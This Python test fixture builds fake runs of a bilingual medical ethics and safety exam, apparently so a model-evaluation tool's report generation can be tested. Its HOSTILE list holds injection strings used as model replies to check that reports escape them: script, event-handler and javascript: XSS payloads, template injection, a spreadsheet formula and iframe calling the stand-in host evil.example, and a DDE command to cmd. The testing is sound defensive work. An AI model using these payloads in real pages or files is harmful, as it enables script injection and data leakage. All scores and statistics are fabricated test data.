"""Runs made up for the report's tests: varied text in two languages, every outcome, and texts that want to be run."""

import random
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from medosce.schema.dimensions import AXES, DIMENSIONS, axis_of
from medosce.schema.items import Item, Message
from medosce.schema.records import ProviderFailure, Response, RunManifest, Score, Usage

HOSTILE = [
    '<img src="x" onerror="window.__pwned=1"> The answer is B.',
    "<script>window.__pwned=2</script>",
    "</script><script>window.__pwned=3</script>",
    "javascript:window.__pwned=4",
    '=HYPERLINK("http://evil.example/?leak","C")',
    '"><svg onload=window.__pwned=5><style>*{display:none}</style>',
    "{{ 7*7 }} {% raw %} ${window.__pwned=6}",
    "]]> --> <!-- <iframe src=http://evil.example></iframe>",
    "\u202egnorw si C\u202c <b>bold</b> \x00 &lt;already&gt;",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
_EN_TEXT = """
patient family physician consent disclosure transfusion ward nurse audit record protocol infusion dose allergy
renal hepatic review committee legal guardian autonomy benefit harm justice confidential report incident
isolation culture antibiotic handover emergency triage ventilator palliative sedation withdrawal opinion
second refuse accept explain document notify department head
"""
_ZH_TEXT = """
患者 家属 医师 知情同意 如实告知 输血 病区 护士 审核 病历 方案 输液 剂量 过敏 肾功能 肝功能 伦理委员会
监护人 自主 获益 伤害 公正 保密 上报 不良事件 隔离 培养 抗菌药物 交接班 急诊 分诊 呼吸机 安宁疗护 镇静
撤除 会诊 拒绝 接受 解释 记录 通知 科主任 法律 规定 流程 风险 评估 沟通 及时
"""
_EN, _ZH = _EN_TEXT.split(), _ZH_TEXT.split()

_FATES = ("refused", "unparsed", "abstained", "truncated", "provider_error", "filtered", "not_asked")


@dataclass
class FakeRow:
    item: Item
    score: Score
    response: Response | None
    shown: dict[str, str]
    messages: list[Message]


@dataclass
class FakeRun:
    """Meets what reporting reads of a run folder."""

    path: Path
    manifest: RunManifest
    summary: dict[str, Any]
    made: list[FakeRow] = field(default_factory=list)

    def rows(self) -> Iterator[FakeRow]:
        return iter(self.made)


def estimate(right: int, n: int, planned: int | None = None) -> dict[str, Any]:
    """An accuracy as a summary holds it; the interval is only of the right size, not a method under test."""
    planned = planned or n
    if not n:
        return {
            "value": None,
            "low": None,
            "high": None,
            "n": 0,
            "groups": 0,
            "method": "wilson",
            "worst": None,
            "best": None,
            "reason": "no rows",
        }
    p = right / n
    half = 1.96 * (max(p * (1 - p), 0.01) / n) ** 0.5 * 1.4
    return {
        "value": p,
        "low": max(0.0, p - half),
        "high": min(1.0, p + half),
        "n": n,
        "groups": max(1, n // 5),
        "method": "wilson, design effect",
        "worst": right / planned,
        "best": (right + planned - n) / planned,
    }


def text(random_: random.Random, language: str, words: int) -> str:
    """Words in an order that does not repeat, so that it deflates like prose and no better."""
    if language == "zh":
        return "".join(random_.choice(_ZH) + random_.choice(("，", "", "", "。", "的", "应")) for _ in range(words))
    return " ".join(f"{random_.choice(_EN)}{random_.choice(('', '', '', ',', '.'))}" for _ in range(words))


def make_run(
    path: Path,
    *,
    groups: int = 40,
    orders: int = 5,
    seed: int = 1,
    model: str = "openai:gpt-4o",
    skill: float = 0.5,
    notes: tuple[str, ...] = ("model_checked",),
    hostile: bool = False,
    reply_words: tuple[int, int] = (5, 60),
    reasoning: bool = False,
) -> FakeRun:
    """A run of `groups` question pairs (Chinese and English), each in `orders` orders."""
    questions, answers = random.Random(99), random.Random(seed)
    rows: list[FakeRow] = []
    ids = list(DIMENSIONS)
    place = 0
    for group in range(groups):
        dimension = ids[group % len(ids)]
        for language in ("zh", "en"):
            item = _item(questions, f"{dimension}-{group // len(ids) + 1:04d}", dimension, language)
            for order in range(orders):
                evil = HOSTILE[place % len(HOSTILE)] if hostile else None
                rows.append(_row(answers, item, order, place, skill, reply_words, evil, model, reasoning))
                place += 1
    return FakeRun(path, _manifest(model, rows, orders, seed), _summary(model, rows, notes), rows)


def _item(r: random.Random, group: str, dimension: str, language: str) -> Item:
    options = {letter: text(r, language, r.randint(6, 14)) for letter in "ABCDE"}
    return Item(
        id=f"{group}.{language}",
        kind="single_choice",
        dimension=dimension,
        language=language,
        group=group,
        specialty="急诊科" if language == "zh" else "emergency medicine",
        difficulty="medium",
        question=text(r, language, r.randint(25, 60)) + ("？" if language == "zh" else "?"),
        options=options,
        answer=r.choice("ABCDE"),
        rationale=text(r, language, r.randint(40, 80)),
        principle="《民法典》第1219条",
        licence="CC-BY-4.0",
        validation={"status": "model_checked"},
    )


def _row(
    r: random.Random,
    item: Item,
    order: int,
    place: int,
    skill: float,
    words: tuple[int, int],
    evil: str | None,
    model: str,
    reasoning: bool,
) -> FakeRow:
    assert item.options and isinstance(item.answer, str)
    letters = list(item.options)
    originals = letters[order % 5 :] + letters[: order % 5]
    shown = dict(zip(letters, (item.options[o] for o in originals), strict=True))
    prompt = "\n".join([item.question or "", *(f"{letter}. {option}" for letter, option in shown.items())])
    messages = [
        Message("system", "你是一名医学考生。" if item.language == "zh" else "You are sitting a medical examination."),
        Message("user", prompt + ("\n请直接作答。" if item.language == "zh" else "\nAnswer with one letter.")),
    ]
    fate = r.random()
    outcome = "answered" if evil or fate < 0.95 else r.choice(_FATES)
    if outcome == "not_asked":
        return FakeRow(item, Score(item=item.id, order=order, repeat=0, outcome=outcome), None, shown, messages)
    answer = item.answer if r.random() < skill else r.choice([*letters, "A"])
    seen = letters[originals.index(answer)]
    lead = "故选" if item.language == "zh" else " The answer is "
    body = evil if evil is not None else f"{text(r, item.language, r.randint(*words))}{lead}{seen}"
    answered = outcome == "answered"
    missing = outcome in ("provider_error", "filtered")
    return FakeRow(
        item,
        Score(
            item=item.id,
            order=order,
            repeat=0,
            outcome=outcome,
            answer=answer if answered else None,
            correct=None if missing else answered and answer == item.answer,
            chosen_text=item.options[answer] if answered else None,
            shown=seen if answered else None,
            strict=None if missing else answered and answer == item.answer,
            rule="answer_phrase" if answered else None,
        ),
        Response(
            row=place,
            item=item.id,
            order=order,
            text=None if missing else body,
            finish="stop",
            model=model.split(":")[-1] + "-2024-08-06",
            reasoning=text(r, item.language, 60) if reasoning else None,
            usage=Usage(input=180 + place % 50, output=40),
            seconds=0.8,
            at="2026-01-01T00:00:00Z",
            error=ProviderFailure("429", "rate limited") if outcome == "provider_error" else None,
        ),
        shown,
        messages,
    )


def _manifest(model: str, rows: list[FakeRow], orders: int, seed: int) -> RunManifest:
    return RunManifest(
        format=1,
        run_digest=f"{seed:02d}" + "9f3a7c" * 10 + "ab",
        suite={
            "name": "ethics-safety",
            "title": {"zh": "伦理与安全考核", "en": "Ethics and safety examination"},
            "digest": "4be1" * 16,
        },
        model={
            "spec": model,
            "protocol": "openai-chat",
            "model": model.split(":")[-1],
            "base_url": "https://models.example/v1",
        },
        settings={
            "orders": orders,
            "repeats": 1,
            "seed": 0,
            "limit": None,
            "stratify": "dimension",
            "language": None,
            "method": "generate",
            "temperature": 0.0,
            "max_tokens": 2048,
        },
        prompt={"name": "direct", "digest": "77aa" * 16, "templates": {}},
        items=len({row.item.id for row in rows}),
        planned=len(rows),
        created="2026-01-01T08:00:00Z",
        software={"medosce": "0.1.0", "python": "3.11.7"},
    )


def _of(rows: list[FakeRow]) -> dict[str, Any]:
    missing = ("provider_error", "filtered", "not_asked", "judge_error")
    return estimate(
        sum(r.score.correct is True for r in rows), sum(r.score.outcome not in missing for r in rows), len(rows)
    )


def _summary(model: str, rows: list[FakeRow], notes: tuple[str, ...]) -> dict[str, Any]:
    outcomes = Counter(row.score.outcome for row in rows)
    accuracy = _of(rows)
    by = {
        d: {"accuracy": _of([r for r in rows if r.item.dimension == d])}
        for d in DIMENSIONS
        if any(r.item.dimension == d for r in rows)
    }
    answered = [row for row in rows if row.score.outcome == "answered"]
    value = accuracy["value"] or 0.0
    return {
        "format": 1,
        "suite": "ethics-safety",
        "suite_digest": "4be1" * 16,
        "model": model,
        "items": len({r.item.id for r in rows}),
        "planned": len(rows),
        "outcomes": dict(outcomes),
        "metrics": {
            "accuracy": accuracy,
            "accuracy_of_answered": estimate(sum(r.score.correct is True for r in answered), len(answered)),
            "strict_accuracy": estimate(int(len(rows) / 5 * value * 0.6), len(rows) // 5 or 1),
            "consistency": estimate(int(len(rows) / 5 * 0.7), len(rows) // 5 or 1),
            "position_bias": {
                **estimate(int(len(answered) * 0.07), len(answered)),
                "chosen": [0.27, 0.21, 0.19, 0.18, 0.15],
                "gold": [0.2, 0.2, 0.2, 0.2, 0.2],
            },
        },
        "by_axis": {axis: {"accuracy": _of([r for r in rows if axis_of(r.item.dimension) == axis])} for axis in AXES},
        "by_language": {lang: {"accuracy": _of([r for r in rows if r.item.language == lang])} for lang in ("zh", "en")},
        "by_dimension": by,
        "chance": 0.2,
        "faults": {"429": 3, "reset": 1},
        "notes": list(notes),
        "validation": {"model_checked": len({r.item.id for r in rows})},
        "usage": {
            "input_tokens": 398_000,
            "output_tokens": 81_000,
            "reasoning_tokens": 0,
            "requests": len(rows),
            "tries": len(rows) + 4,
            "cached": 0,
            "judge": {},
            "cost": 1.8074,
            "currency": "USD",
        },
        "strict_extraction": {"accuracy": estimate(int(len(rows) * value * 0.98), len(rows))},
        "smallest_detectable_difference": {
            "value": 0.061,
            "power": 0.8,
            "alpha": 0.05,
            "assumption": "discordance 0.25",
        },
        "returned": [{"model": model.split(":")[-1] + "-2024-08-06", "fingerprint": "fp_3f1", "n": len(rows)}],
        "wall_seconds": 252.4,
    }


def make_comparison(runs: list[FakeRun]) -> dict[str, Any]:
    """A comparison of every pair, of the shape that `compare` writes."""
    pairs = []
    for a in range(len(runs)):
        for b in range(a + 1, len(runs)):
            d = runs[a].summary["metrics"]["accuracy"]["value"] - runs[b].summary["metrics"]["accuracy"]["value"]
            p = 0.0004 if abs(d) > 0.1 else 0.21
            part = {"n": 200, "difference": d, "low": d - 0.08, "high": d + 0.08, "p": p, "p_holm": min(1.0, p * 3)}
            pairs.append(
                {
                    "a": a,
                    "b": b,
                    "n": 1900,
                    "groups": 40,
                    "difference": d,
                    "low": d - 0.04,
                    "high": d + 0.04,
                    "p": p,
                    "p_holm": p * 3,
                    "test": "cluster sign flip, monte carlo",
                    "b_only": 300,
                    "c_only": 210,
                    "smallest_detectable_difference": 0.05,
                    "by_dimension": [{"dimension": x, **part} for x in ("E1", "S5")],
                    "by_axis": [{"axis": x, **part} for x in AXES],
                }
            )
    order = sorted(range(len(runs)), key=lambda i: -runs[i].summary["metrics"]["accuracy"]["value"])
    return {
        "format": 1,
        "suite": "ethics-safety",
        "runs": [
            {
                "path": str(r.path),
                "model": r.manifest.model["spec"],
                "run_digest": r.manifest.run_digest,
                "accuracy": r.summary["metrics"]["accuracy"],
            }
            for r in runs
        ],
        "pairs": pairs,
        "ranks": [
            {"run": run, "rank": at + 1, "low": max(1, at), "high": min(len(runs), at + 2)}
            for at, run in enumerate(order)
        ],
        "notes": [],
    }
